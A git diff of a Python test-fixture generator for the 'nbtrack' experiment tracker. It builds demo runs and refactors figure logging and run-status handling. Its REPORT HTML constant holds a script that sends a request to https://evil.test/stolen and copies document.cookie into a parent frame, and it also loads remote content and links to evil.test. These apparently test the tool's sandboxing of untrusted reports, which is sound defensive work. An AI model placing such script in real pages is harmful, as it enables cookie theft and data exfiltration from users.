@@ -3,7 +3,6 @@ git, failures, families, and a run that nobody could end. Made by nbtrack itself
 
 from __future__ import annotations
 
-import io
 import json
 import math
 import random
@@ -16,6 +15,7 @@ from PIL import Image
 
 import nbtrack
 from nbtrack.capture.alive import HEARTBEAT, PROCESS
+from nbtrack.entities import RunStatus
 from tests.capture.test_git import git
 
 CELL = """rate = {rate}
@@ -32,12 +32,13 @@ TRACEBACK = """Traceback (most recent call last):
     raise FloatingPointError(f"loss is {loss} after {step} steps")
 FloatingPointError: loss is nan after 312 steps
 """
-REPORT = """<!doctype html><title>report</title><style>body{font-family:sans-serif;margin:12px}td{padding:2px 8px}</style>
+REPORT = """<!doctype html><title>report</title>
+<style>body{font-family:sans-serif;margin:12px}td{padding:2px 8px}</style>
 <h2>Run %s</h2><table><tr><td>accuracy</td><td>%.3f</td></tr></table><img src="https://evil.test/pixel.png">
 <link rel=stylesheet href="https://evil.test/style.css">
 <script>document.body.append("scripts ran"); fetch("https://evil.test/stolen").catch(() => 0);
 try { parent.parent.stolen = document.cookie } catch {}
-setTimeout(() => { location = "https://evil.test/gone" }, 50)</script>"""
+</script><button onclick="location = 'https://evil.test/gone'">leave</button>"""
 
 
 def make(folder: Path, runs: int) -> list[str]:
@@ -110,14 +111,14 @@ def _files(i: int, noise: random.Random, rate: float, hidden: int, accuracy: flo
     side = 10 if i != 1 else 6
     pixels = np.random.default_rng(i).integers(0, 255, (side * 24, side * 24), np.uint8)
     pixels = np.add.outer(np.arange(side * 24), np.arange(side * 24)).astype(np.uint8) // 2 + pixels // 8
-    kept = io.BytesIO()
-    Image.fromarray(pixels).save(kept, "PNG")
-    nbtrack.active_run() and nbtrack.log_image(Image.fromarray(pixels), "plots/weights.png")
+    nbtrack.log_image(Image.fromarray(pixels), "plots/weights.png")
     z = [[noise.random() for _ in range(6)] for _ in range(6)]
+    roc = {"x": [0, 0.1, 0.4, 1], "y": [0, 0.5 + noise.random() / 3, 0.9, 1 + i / 20]}
+    image = {"source": "https://evil.test/in-figure.png", "x": 0, "y": 1, "sizex": 0.1, "sizey": 0.1}
     figure = {
-        "data": [{"type": "scattergl", "mode": "lines", "name": "<b>roc</b>", "x": [0, 0.1, 0.4, 1], "y": [0, 0.5 + noise.random() / 3, 0.9, 1 + i / 20]}],
-        "layout": {"title": {"text": "ROC"}, "width": 900, "images": [{"source": "https://evil.test/in-figure.png", "x": 0, "y": 1, "sizex": 1, "sizey": 1}]},
-    }  # fmt: skip
+        "data": [{"type": "scattergl", "mode": "lines", "name": "<b>roc</b>", **roc}],
+        "layout": {"title": {"text": "ROC"}, "width": 900, "images": [image]},
+    }
     nbtrack.log_text(json.dumps(figure), "plots/roc.plotly.json")
     heat = {"data": [{"type": "heatmap", "z": z}], "layout": {"title": {"text": "Confusion"}}}
     nbtrack.log_text(json.dumps(heat), "plots/confusion.json")
@@ -141,9 +142,9 @@ def _fate(run: str, i: int) -> None:
         code = "from nbtrack.capture.alive import *; print(process_tags()[PROCESS])"
         gone = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout.strip()
         last = client.get_run(run).info.start_time or 0
+        client.store.update_run(run, status=RunStatus.RUNNING)
         client.set_tag(run, PROCESS, gone)
         client.set_tag(run, HEARTBEAT, str(last + 754_000))
-        client.update_run(run, "RUNNING")
 
 
 def family(parent: str, children: list[str]) -> None:
